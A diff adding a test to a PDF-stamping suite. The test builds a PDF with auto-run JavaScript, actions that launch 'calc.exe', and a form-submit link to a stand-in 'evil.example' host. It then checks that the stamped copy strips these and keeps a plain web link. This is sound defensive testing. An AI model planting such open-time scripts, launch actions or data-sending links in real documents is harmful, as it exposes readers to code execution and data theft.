@@ -137,3 +137,31 @@ test('a PDF that takes too long is given up, and the next one is stamped', async
   expect(await stamped(bytesOf(paper()), hasty)).toEqual({ problem: 'too_long' })
   expect(await stamped(bytesOf(paper()))).toHaveProperty('bytes')
 })
+
+test('what would run or reach out when a PDF is opened is not in the copy, and its links are', async () => {
+  const document = paper()
+  const [root, page] = [document.getTrailer().get('Root'), document.loadPage(0).getObject()]
+  const action = (kind: string, more: object = {}) => ({ S: document.newName(kind), ...more })
+  root.put('OpenAction', document.addObject(action('JavaScript', { JS: document.newString('app.alert(1)') })))
+  root.put('Names', {
+    JavaScript: { Names: [document.newString('a'), action('JavaScript', { JS: document.newString('x') })] },
+  })
+  page.put('AA', { O: action('Launch', { F: document.newString('calc.exe') }) })
+  const link = (kind: string, more: object) => ({
+    Type: 'Annot',
+    Subtype: document.newName('Link'),
+    Rect: [0, 0, 9, 9],
+    A: action(kind, more),
+  })
+  page.put('Annots', [
+    link('URI', { URI: document.newString('https://example.com') }),
+    document.addObject(link('SubmitForm', { F: document.newString('https://evil.example') })),
+    link('Launch', { F: document.newString('calc.exe') }),
+  ])
+  const before = Buffer.from(document.saveToBuffer('').asUint8Array()).toString('latin1')
+  expect(before).toMatch(/JavaScript[\s\S]*|Launch/)
+  const copy = new mupdf.PDFDocument(copyOf(await stamped(bytesOf(document))))
+  const text = Buffer.from(copy.saveToBuffer('decompress').asUint8Array()).toString('latin1')
+  expect(text).not.toMatch(/JavaScript|Launch|SubmitForm|OpenAction|\/AA\b|app\.alert|calc\.exe[\s\S]*\/S ?\/Launch/)
+  expect(text).toContain('https://example.com')
+})
